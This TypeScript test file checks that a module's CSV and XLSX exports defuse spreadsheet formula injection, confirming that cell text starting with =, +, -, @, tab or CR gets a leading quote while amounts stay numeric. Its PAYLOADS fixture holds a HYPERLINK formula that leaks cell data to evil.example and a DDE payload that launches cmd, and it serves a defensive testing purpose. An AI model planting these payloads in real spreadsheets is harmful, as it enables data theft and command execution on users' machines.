import ExcelJS from 'exceljs';
import type { PackTable } from './pack-tables';
import { tableCsv, tablesXlsx } from './render-tables';

// CSV injection (CWE-1236): text a user typed must never reach a spreadsheet as a formula.
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3', '\t=1', '\r=1'];

const table: PackTable = {
  name: 'decisions',
  title: 'Decisions',
  columns: [
    { key: 'reason', header: 'Reason', width: 100 },
    { key: 'amount', header: 'Amount', width: 60, pounds: true },
  ],
  rows: [...PAYLOADS.map((reason) => ({ reason, amount: -250_000 })), { reason: 'An ordinary reason', amount: 1_200 }],
};

/** A minimal RFC 4180 reader: enough for the fields tableCsv writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

describe('the pack spreadsheets and text a user typed', () => {
  it('CSV: a cell beginning with = + - @ tab or CR is prefixed with a quote; numbers stay numbers', () => {
    const [header, ...rows] = parseCsv(tableCsv(table));
    expect(header).toEqual(['reason', 'amount']);
    expect(rows.map((r) => r[0])).toEqual([...PAYLOADS.map((p) => `'${p}`), 'An ordinary reason']);
    // A negative amount is a number, not text to neutralise; pounds to the penny.
    expect(rows.map((r) => r[1])).toEqual([...PAYLOADS.map(() => '-250000.00'), '1200.00']);
  });

  it('XLSX: the same text cells are neutralised, and amounts are number cells', async () => {
    const xlsx = await tablesXlsx([['programme name', '=1+1']], [table], { at: new Date('2026-01-01T00:00:00Z'), title: 'test' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('decisions')!;
    const cells = PAYLOADS.map((_, i) => sheet.getRow(i + 2));
    // An XML reader turns a stored CR into LF (XML end-of-line handling); the quote is what matters.
    const lf = (v: unknown) => String(v).replace(/\r/g, '\n');
    expect(cells.map((r) => lf(r.getCell(1).value))).toEqual(PAYLOADS.map((p) => lf(`'${p}`)));
    expect(cells.map((r) => r.getCell(1).type)).toEqual(PAYLOADS.map(() => ExcelJS.ValueType.String));
    expect(cells.map((r) => r.getCell(2).value)).toEqual(PAYLOADS.map(() => -250_000));
    expect(cells.map((r) => r.getCell(2).type)).toEqual(PAYLOADS.map(() => ExcelJS.ValueType.Number));
    expect(cells.map((r) => r.getCell(2).numFmt)).toEqual(PAYLOADS.map(() => '#,##0.00'));
    expect(workbook.getWorksheet('pack')!.getRow(2).getCell(2).value).toBe("'=1+1");
  });
});
